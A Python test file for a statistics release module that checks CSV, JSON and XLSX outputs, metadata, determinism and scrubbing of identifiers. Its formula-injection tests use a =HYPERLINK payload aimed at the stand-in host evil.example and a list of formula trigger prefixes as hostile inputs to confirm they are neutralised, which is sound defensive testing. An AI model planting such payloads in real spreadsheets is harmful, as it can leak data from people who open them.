"""Release files: docs/statistics.md, ST17, test ST29, and docs/security.md, S21 (formula injection).

No database is needed (the autouse `db` fixture still runs, harmlessly).
"""

from __future__ import annotations

import csv
import hashlib
import io
import json
import re
import time
from datetime import UTC, datetime

import pytest
from openpyxl import load_workbook
from openpyxl.utils.exceptions import IllegalCharacterError

from mediation.statistics.cells import CellStats
from mediation.statistics.disclosure import publish_table
from mediation.statistics.files import (
    canonical_json,
    metadata,
    metadata_text,
    neutralise,
    release_xlsx,
    table_csv,
    table_json,
)
from tests.statistics.test_disclosure import balanced, dimension, spec

pytestmark = pytest.mark.database_independent  # pure Python: the PostgreSQL pass of .ci/run leaves it out (ST55)

COUNT = re.compile(r"^(<10|x|[1-9][0-9]*[05])$")
EVIL = '=HYPERLINK("http://evil.example/?leak","clic")'
TRIGGERS = ["=1+1", "+1", "-2", "@SUM(A1)", "\tTab", "\rCR", "\0NUL", " =1+1"]
META_KEYS = {
    "release_id", "table_id", "title_fr", "title_ar", "unit", "period", "catalogue_version",
    "classification_versions", "method", "method_version", "parameters", "markers", "notes",
    "generated_at", "software_version", "data_sha256",
}
GENERATED = datetime(2025, 8, 14, 3, 0, 5, 123456, tzinfo=UTC)
VERSIONS = {"geography": "1", "issue_group": "1", "outcome_group": "1", "age_band": "1"}
UUID = re.compile(r"[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}", re.I)
HEX_ID = re.compile(r"\b[0-9a-f]{16,}\b", re.I)
EMAIL = re.compile(r"[\w.+-]+@[\w-]+\.[\w.-]+")
PHONE = re.compile(r"(?:\+212|00212|\b0)[5-7](?:[ .-]?\d){8}")
CASE_REF = re.compile(r"\b[A-Z]{3}-\d{4}-\d{5}\b")
DATE = re.compile(r"\d{4}-\d{2}-\d{2}")


def build(order=1, labels=EVIL):
    """A 1-D table with a hostile label, pct and a total; `order` flips the cells' insertion order."""
    table_spec = spec(dimension("issue", 6, first_label=labels), table_id="T2")
    items = [(("issue_0",), 42, 1000), (("issue_1",), 123, 98765), (("issue_3",), 7, 3), (("issue_4",), 15, 77)]
    cells = {codes: CellStats(n, key, balanced(n)) for codes, n, key in items[::order]}
    table = publish_table(table_spec, "2025-Q2", cells, CellStats(187, 99845, balanced(187)), with_pct=True)
    return table, metadata("2025-Q2", table, GENERATED, "1.4.0", VERSIONS)


def build_2d():
    table_spec = spec(dimension("age", 5), dimension("issue", 3), total=False, table_id="T4")
    table = publish_table(table_spec, "2025", {("age_1", "issue_2"): CellStats(31, 5)}, None)
    return table, metadata("2025", table, GENERATED, "1.4.0", VERSIONS)


def csv_parts(content: bytes) -> tuple[dict[str, str], list[list[str]]]:
    assert content.startswith(b"\xef\xbb\xbf")
    assert content.count(b"\n") == content.count(b"\r\n")  # CRLF only
    text = content.decode("utf-8-sig")
    lines = text.split("\r\n")
    meta = dict(line[2:].split(": ", 1) for line in lines if line.startswith("# "))
    data = [line + "\r\n" for line in lines if line and not line.startswith("#")]
    return meta, list(csv.reader(data))


def xlsx_sheets(content: bytes) -> dict:
    workbook = load_workbook(io.BytesIO(content))
    return {sheet.title: [list(row) for row in sheet.iter_rows()] for sheet in workbook.worksheets}


def texts(meta) -> dict[str, str]:
    return {key: metadata_text(value) for key, value in meta.items()}


# -- metadata -----------------------------------------------------------------------


def test_metadata_has_every_key_of_section_7():
    table, meta = build()
    assert set(meta) == META_KEYS
    assert meta["generated_at"] == "2025-08-14T03:00:05Z"
    assert meta["method"] == "threshold + cell-key random rounding" and meta["method_version"] == "1"
    assert meta["parameters"]["threshold"] == 10 and meta["parameters"]["association_top2_max"] == "0.90"
    assert set(meta["markers"]) == {"<10", "x", ".."}
    # Totals rounded separately; values are not revisions; the population (with the consent setting).
    assert len(meta["notes"]) == 3 and meta["notes"][2].startswith("Population : ")
    assert meta["classification_versions"]["issue"] == "1"  # the table's own classification is added
    document = json.loads(table_json(table, meta))
    section = {"columns": document["columns"], "rows": document["rows"]}
    assert meta["data_sha256"] == hashlib.sha256(canonical_json(section)).hexdigest()
    naive = metadata("r", table, datetime(2025, 8, 14, 3, 0, 5), "v", VERSIONS)
    assert naive["generated_at"] == "2025-08-14T03:00:05Z"


def test_metadata_refuses_a_conflicting_classification_version():
    table, _ = build()
    with pytest.raises(ValueError):
        metadata("r", table, GENERATED, "v", {"issue": "2"})


# -- D8: the three formats ----------------------------------------------------------


def test_d8_csv():
    table, meta = build()
    csv_meta, rows = csv_parts(table_csv(table, meta))
    assert csv_meta == texts(meta)
    assert rows[0] == ["label_fr", "label_ar", "code", "period", "value", "pct"]
    assert len(rows) == 1 + 6 + 1  # header, full grid, total
    assert [row[2] for row in rows[1:]] == [f"issue_{i}" for i in range(6)] + ["total"]
    assert all(COUNT.match(row[4]) for row in rows[1:])
    assert all(row[5] == ".." or row[5].isdigit() for row in rows[1:])
    assert rows[1][0] == "'" + EVIL  # neutralised, and first: a label, not a code
    assert rows[4][4] == "<10"  # the marker is safe as it is
    assert all(row[3] == "2025-Q2" for row in rows[1:])


def test_d8_json_and_determinism():
    table, meta = build()
    content = table_json(table, meta)
    document = json.loads(content, parse_float=lambda text: pytest.fail(f"float {text}"))
    assert list(document) == ["columns", "metadata", "rows"] and document["metadata"] == meta
    assert document["columns"] == ["label_fr", "label_ar", "code", "period", "value", "pct"]
    assert document["rows"][0][0] == EVIL and document["rows"][0][2] == "issue_0"  # JSON is data
    values = [row[4] for row in document["rows"]]
    assert all(isinstance(v, int) or v in ("<10", "x") for v in values)
    assert all(COUNT.match(str(v)) for v in values)
    assert content == json.dumps(document, sort_keys=True, ensure_ascii=False, separators=(",", ":")).encode() + b"\n"
    # Identical input, built again and in another order: identical bytes.
    again_table, again_meta = build(order=-1)
    assert table_json(again_table, again_meta) == content
    assert table_csv(again_table, again_meta) == table_csv(table, meta)


def test_d8_xlsx():
    table, meta = build()
    two_d, two_d_meta = build_2d()
    methodology = {"method": meta["method"], "parameters": meta["parameters"], "markers": meta["markers"]}
    single = xlsx_sheets(release_xlsx([(table, meta)], methodology))
    assert list(single) == ["data", "metadata", "methodology"]
    data = single["data"]
    assert [c.value for c in data[0]] == ["label_fr", "label_ar", "code", "period", "value", "pct"]
    assert data[1][0].value == "'" + EVIL and data[1][0].data_type == "s"
    assert all(COUNT.match(str(row[4].value)) for row in data[1:])
    assert {type(row[4].value) for row in data[1:]} == {int, str}  # counts numeric, markers text
    assert {row[0].value: row[1].value for row in single["metadata"][1:]} == texts(meta)
    for rows in single.values():
        for row in rows:
            for cell in row:
                assert cell.data_type != "f"
                if isinstance(cell.value, str):
                    assert cell.data_type == "s" and not cell.value.startswith("=")
    several = xlsx_sheets(release_xlsx([(table, meta), (two_d, two_d_meta)], methodology))
    assert list(several) == ["T2", "T2 metadata", "T4", "T4 metadata", "methodology"]
    assert len(several["T4"]) == 1 + 15


def test_d8_xlsx_bytes_do_not_depend_on_the_clock():
    table, meta = build()
    first = release_xlsx([(table, meta)], {})
    time.sleep(2.1)  # zip entry times have a 2-second resolution: cross at least one tick
    assert release_xlsx([(table, meta)], {}) == first


def test_d8_same_data_and_metadata_in_every_format():
    table, meta = build()
    _, csv_rows = csv_parts(table_csv(table, meta))
    document = json.loads(table_json(table, meta))
    sheets = xlsx_sheets(release_xlsx([(table, meta)], {}))
    xlsx_rows = [[cell.value for cell in row] for row in sheets["data"]]
    assert csv_rows[0] == document["columns"] == xlsx_rows[0]
    for csv_row, json_row, xlsx_row in zip(csv_rows[1:], document["rows"], xlsx_rows[1:], strict=True):
        assert csv_row == [neutralise(str(v)) for v in json_row]
        assert xlsx_row == [neutralise(v) if isinstance(v, str) else v for v in json_row]
    csv_meta, _ = csv_parts(table_csv(table, meta))
    xlsx_meta = {row[0].value: row[1].value for row in sheets["metadata"][1:]}
    assert csv_meta == xlsx_meta == texts(document["metadata"])


def test_d8_2d_table_layout():
    table, meta = build_2d()
    _, rows = csv_parts(table_csv(table, meta))
    assert rows[0] == ["label_fr", "label_ar", "code", "period", "value"]
    assert len(rows) == 1 + 15 and rows[1][2] == "age_0|issue_0" and rows[1][0] == "age 0 fr | issue 0 fr"
    assert rows[1 + 3 * 1 + 2][2] == "age_1|issue_2" and rows[1 + 3 * 1 + 2][4] in {"30", "35"}


def test_d8_no_identifiers_or_stray_dates_in_any_file():
    for table, meta in (build(), build_2d()):
        xlsx = xlsx_sheets(release_xlsx([(table, meta)], {"method": meta["method"]}))
        cells = " ".join(str(cell.value) for rows in xlsx.values() for row in rows for cell in row)
        for text in (table_csv(table, meta).decode("utf-8-sig"), table_json(table, meta).decode(), cells):
            text = text.replace(meta["data_sha256"], "")  # the one hash the format prescribes
            for pattern in (UUID, HEX_ID, EMAIL, PHONE, CASE_REF):
                assert not pattern.search(text), pattern.pattern
            assert set(DATE.findall(text)) == {"2025-08-14"}  # generated_at only


# -- S21: formula injection -------------------------------------------------------


@pytest.mark.parametrize("label", TRIGGERS)
def test_s21_every_trigger_is_neutralised(label):
    table, meta = build(labels=label)
    _, rows = csv_parts(table_csv(table, meta))
    assert rows[1][0] == "'" + label
    if "\0" in label:  # XLSX cannot hold NUL at all: the workbook is refused, nothing is written
        with pytest.raises(IllegalCharacterError):
            release_xlsx([(table, meta)], {})
        return
    cell = xlsx_sheets(release_xlsx([(table, meta)], {}))["data"][1][0]
    assert cell.data_type == "s" and cell.value.startswith("'")


@pytest.mark.parametrize(("text", "expected"), [
    ("<10", "<10"), ("x", "x"), ("..", ".."), ("35", "35"), ("Garde", "Garde"), ("حضانة", "حضانة"),
    ("-5", "'-5"), ("＝1", "'＝1"), ("  @x", "'  @x"),
])
def test_neutralise(text, expected):
    assert neutralise(text) == expected


def test_unsafe_metadata_is_refused_rather_than_written():
    table, meta = build()
    with pytest.raises(ValueError):
        table_csv(table, {**meta, "title_fr": "Titre\r\n=1+1,x"})
    with pytest.raises(ValueError):
        table_csv(table, {**meta, "title_fr": "Titre, =1+1"})
    with pytest.raises(TypeError):
        table_json(table, {**meta, "parameters": {"association_top2_max": 0.9}})


def test_a_free_text_note_cannot_smuggle_a_formula_into_a_csv_comment_line():
    # A correction note (typed by the platform admin) travels in the metadata of every file.
    table, _ = build()
    note = 'Correction : erreur, =HYPERLINK("http://evil.example")&"; -3 dossiers\\'
    meta = metadata("2025-Q2-r2", table, GENERATED, "1.4.0", VERSIONS, extra_notes=(note,))
    content = table_csv(table, meta).decode("utf-8-sig")
    for line in content.split("\r\n"):
        if line.startswith("#"):
            pieces = line.replace(";", ",").split(",")[1:]
            assert all(neutralise(piece) == piece for piece in pieces), line
    csv_meta, _ = csv_parts(table_csv(table, meta))
    assert json.loads(csv_meta["notes"])[-1] == note  # exact round trip
    sheets = xlsx_sheets(release_xlsx([(table, meta)], {"notes": [note]}))
    assert {row[0].value: row[1].value for row in sheets["metadata"][1:]} == csv_meta
    assert json.loads(table_json(table, meta))["metadata"]["notes"][-1] == note
